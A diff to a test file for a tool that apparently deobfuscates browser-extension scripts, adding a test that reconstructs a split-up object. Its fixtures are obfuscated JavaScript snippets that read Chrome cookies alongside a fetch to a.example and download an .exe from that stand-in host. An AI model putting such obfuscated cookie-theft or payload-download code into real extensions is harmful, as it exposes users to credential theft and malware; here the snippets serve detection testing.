@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { parseScript } from '../parse.ts';
-import { calledPaths, callsOf, constant, placeAt } from '../query.ts';
+import { calledPaths, callsOf, constant, placeAt, propertyOf } from '../query.ts';
 
 const called = (text: string): string[] => [...calledPaths(parseScript(text))];
 
@@ -31,6 +31,13 @@ describe('unmask', () => {
     expect(called('Reflect.get(Reflect.get(globalThis, "chrome"), "cookies").getAll({}, f)')).toContain('chrome.cookies.getAll');
     const text = 'const t = { "abc": function (f, a, b) { return f(a, b); }, "def": "getAll" }; const d = (s) => atob(s); t[d("YWJj")](fetch, "https://a.example/", o); chrome.cookies[t[d("ZGVm")]]({}, g);';
     expect(called(text)).toEqual(expect.arrayContaining(['fetch', 'chrome.cookies.getAll']));
+  });
+
+  it('puts objects together that were taken apart', () => {
+    const text = 'function d(s) { return atob(s); } var _0x12a3 = {}; _0x12a3[d("dXJs")] = "https://a.example/x.exe", _0x12a3[d("YQ==")] = ![]; chrome[d("ZG93bmxvYWRz")].download(_0x12a3, f);';
+    const script = parseScript(text);
+    const [call] = callsOf(script, 'chrome.downloads.download');
+    expect(constant(script, propertyOf(script, call?.args[0] ?? 0, 'url'))).toBe('https://a.example/x.exe');
   });
 
   it('keeps places, and texts handed to requests', () => {
